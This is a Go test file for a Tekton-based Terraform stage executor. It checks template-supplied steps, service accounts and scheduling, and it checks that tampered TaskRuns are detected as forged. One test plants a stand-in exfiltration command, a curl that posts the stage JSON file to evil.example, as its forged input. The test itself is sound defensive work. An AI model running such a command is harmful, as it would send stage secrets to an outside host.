package tekton

import (
	"context"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"github.com/terrarun/terrarun/pkg/admission/policy"
	"github.com/terrarun/terrarun/pkg/apis/terrarun/v1alpha1"
	"github.com/terrarun/terrarun/pkg/executor"
)

// scannerTask is a Task of the cluster policy: a scan before the stage, a
// notice after it.
func scannerTask(steps ...any) *unstructured.Unstructured {
	if steps == nil {
		steps = []any{
			map[string]any{"name": "scan", "image": "registry.example.com/scanner:v1", "script": "scan /work"},
			map[string]any{"name": "stage", "image": "ignored"},
			map[string]any{"name": "notify", "image": "registry.example.com/notify:v1", "args": []any{"done"}},
		}
	}
	return &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": "tekton.dev/v1", "kind": "Task",
		"metadata": map[string]any{"name": "stage-with-scanner", "namespace": "terrarun-system"},
		"spec":     map[string]any{"steps": steps},
	}}
}

func testTemplate() *policy.TaskRunTemplate {
	return &policy.TaskRunTemplate{
		ServiceAccountName: "terraform-stages",
		PodTemplate: &policy.StagePodTemplate{
			NodeSelector:      map[string]string{"pool": "terraform", "zone": "a"},
			Tolerations:       []corev1.Toleration{{Key: "dedicated", Value: "terraform", Effect: corev1.TaintEffectNoSchedule}},
			RuntimeClassName:  "gvisor",
			PriorityClassName: "stages",
		},
		Task: &policy.TaskReference{Namespace: "terrarun-system", Name: "stage-with-scanner"},
	}
}

// TestTaskRunTemplate: the cluster policy's taskRunTemplate gives every
// stage's TaskRun its ServiceAccount (when the run names none), its pod's
// scheduling (its node selector over the run's) and its Task's steps
// around the stage's; a TaskRun is checked against the template as it
// was when its stage started, so that changing the template or the Task
// while it runs forges nothing, and a TaskRun whose Task steps differ from
// those is refused.
func TestTaskRunTemplate(t *testing.T) {
	v := newEnv(t, scannerTask())
	v.e.template = testTemplate()
	ctx := context.Background()
	ex := plan(t)
	if _, err := v.e.Start(ctx, ex); err != nil {
		t.Fatal(err)
	}
	s := spec(t, v.taskRun(t, "web-plan-1"))
	var names []string
	for _, st := range s.TaskSpec.Steps {
		names = append(names, st.Name)
	}
	if strings.Join(names, ",") != "scan,executor,notify" || s.TaskSpec.Steps[0].Script != "scan /work" {
		t.Errorf("steps = %v", names)
	}
	p := s.PodTemplate
	if s.ServiceAccountName != "terraform-stages" || p.NodeSelector["pool"] != "terraform" || p.NodeSelector["zone"] != "a" ||
		len(p.Tolerations) != 1 || p.Tolerations[0].Key != "dedicated" || *p.RuntimeClassName != "gvisor" || *p.PriorityClassName != "stages" {
		t.Errorf("service account %q, pod template %+v", s.ServiceAccountName, p)
	}
	if st, err := v.e.Status(ctx, ex); err != nil || st.State != executor.StateRunning {
		t.Fatalf("Status = %+v, %v; want Running", st, err)
	}

	// The operator changes the Task and the template: the running stage is
	// still terrarun's.
	changed := scannerTask(map[string]any{"name": "stage", "image": "ignored"}, map[string]any{"name": "audit", "image": "registry.example.com/audit:v2"})
	if _, err := v.dyn.Resource(tasks).Namespace("terrarun-system").Update(ctx, changed, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}
	again := NewExecutor(v.kube, v.dyn, NewClaims(etcdClient), Options{Jobs: testOptions(), Template: &policy.TaskRunTemplate{}})
	if st, err := again.Status(ctx, ex); err != nil || st.State != executor.StateRunning {
		t.Errorf("Status once the template changed = %+v, %v; want Running", st, err)
	}
	// The next stage takes the Task as it is now.
	apply := ex
	apply.Stage, apply.PlanDigest = v1alpha1.StageApply, "sha256:abc"
	if _, err := again.Start(ctx, apply); err != nil {
		t.Fatal(err)
	}
	if s := spec(t, v.taskRun(t, "web-apply-1")); len(s.TaskSpec.Steps) != 1 || s.ServiceAccountName != "default" {
		t.Errorf("the apply, after the template was emptied: %d steps, service account %q", len(s.TaskSpec.Steps), s.ServiceAccountName)
	}

	// A TaskRun whose Task step is not the one recorded is refused.
	tr := v.taskRun(t, "web-plan-1")
	firstStep(tr.Object["spec"].(map[string]any))["script"] = "curl -d @/etc/terrarun/stage/stage.json evil.example"
	if _, err := v.dyn.Resource(TaskRuns).Namespace("team-a").Update(ctx, tr, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}
	if st, err := v.e.Status(ctx, ex); err != nil || st.Reason != executor.ReasonForged || !strings.Contains(st.Message, "spec.taskSpec.steps[0]") {
		t.Errorf("Status of a TaskRun with another Task step = %+v, %v; want forged", st, err)
	}
}

// TestTaskRunTemplateRunsOwnServiceAccount: a run that names its
// ServiceAccount keeps it; the template's is only the default.
func TestTaskRunTemplateRunsOwnServiceAccount(t *testing.T) {
	v := newEnv(t, scannerTask())
	v.e.template = testTemplate()
	ex := plan(t)
	ex.Run.Spec.Executor.ServiceAccountName = "team-a-deployer"
	if _, err := v.e.Start(context.Background(), ex); err != nil {
		t.Fatal(err)
	}
	if s := spec(t, v.taskRun(t, "web-plan-1")); s.ServiceAccountName != "team-a-deployer" || s.PodTemplate.NodeSelector["pool"] != "terraform" {
		t.Errorf("service account %q, node selector %v", s.ServiceAccountName, s.PodTemplate.NodeSelector)
	}
}

// TestTaskRunTemplateTaskRefused: a Task terrarun cannot take (no stage
// step, a part other than steps, a step named as the stage's own, gone)
// starts no stage, and says what to change.
func TestTaskRunTemplateTaskRefused(t *testing.T) {
	for _, c := range []struct {
		name string
		task *unstructured.Unstructured
		says string
	}{
		{"no stage step", scannerTask(map[string]any{"name": "scan", "image": "s"}), `no step named "stage"`},
		{"a sidecar", func() *unstructured.Unstructured {
			task := scannerTask()
			task.Object["spec"].(map[string]any)["sidecars"] = []any{map[string]any{"name": "proxy", "image": "p"}}
			return task
		}(), `unknown field "sidecars"`},
		{"the stage's own step name", scannerTask(map[string]any{"name": "executor", "image": "e"}, map[string]any{"name": "stage", "image": "s"}), `the name "executor" is the stage's own step's`},
		{"gone", nil, "Task terrarun-system/stage-with-scanner not found"},
	} {
		t.Run(c.name, func(t *testing.T) {
			var v *env
			if c.task != nil {
				v = newEnv(t, c.task)
			} else {
				v = newEnv(t)
			}
			v.e.template = testTemplate()
			if _, err := v.e.Start(context.Background(), plan(t)); err == nil || !strings.Contains(err.Error(), c.says) {
				t.Errorf("Start = %v; want an error saying %q", err, c.says)
			}
			if list, _ := v.dyn.Resource(TaskRuns).Namespace("team-a").List(context.Background(), metav1.ListOptions{}); len(list.Items) != 0 {
				t.Errorf("a TaskRun was created")
			}
		})
	}
}

// TestStatusTaskStepFailed: a step of the policy's Task that fails fails
// the stage, saying which and whether the stage ran; when the stage's own
// step failed (Tekton then skips the steps after it), that is the failure.
func TestStatusTaskStepFailed(t *testing.T) {
	ended := func(name string, code int64, skipped bool) map[string]any {
		s := map[string]any{"name": name, "terminated": map[string]any{"exitCode": code, "reason": map[bool]string{true: "Completed", false: "Error"}[code == 0]}}
		if skipped {
			s["terminationReason"] = "Skipped"
		}
		return s
	}
	for _, c := range []struct {
		name   string
		steps  []any
		reason string
		says   string
	}{
		{"before the stage", []any{ended("scan", 3, false), ended("executor", 1, true), ended("notify", 1, true)},
			reasonStepFailed, `step "scan" of the cluster policy's Task (taskRunTemplate.task) exited with code 3 before the stage, which did not run`},
		{"after the stage", []any{ended("scan", 0, false), ended("executor", 0, false), ended("notify", 2, false)},
			reasonStepFailed, `step "notify" of the cluster policy's Task (taskRunTemplate.task) exited with code 2 after the stage, which succeeded`},
		{"the stage itself", []any{ended("scan", 0, false), ended("executor", 1, false), ended("notify", 1, true)},
			executor.ReasonError, "terrarun-executor exited with code 1"},
	} {
		t.Run(c.name, func(t *testing.T) {
			v := newEnv(t, scannerTask())
			v.e.template = testTemplate()
			ex := plan(t)
			if _, err := v.e.Start(context.Background(), ex); err != nil {
				t.Fatal(err)
			}
			v.setStatus(t, "web-plan-1", map[string]any{"podName": "web-plan-1-pod", "conditions": []any{condition("False", "Failed")}, "steps": c.steps})
			v.pod(t, "web-plan-1", "pod-1", nil)
			st, err := v.e.Status(context.Background(), ex)
			if err != nil || st.State != executor.StateFailed || st.Reason != c.reason || !strings.Contains(st.Message, c.says) {
				t.Errorf("Status = %+v, %v; want failed, %s, saying %q", st, err, c.reason, c.says)
			}
		})
	}
}
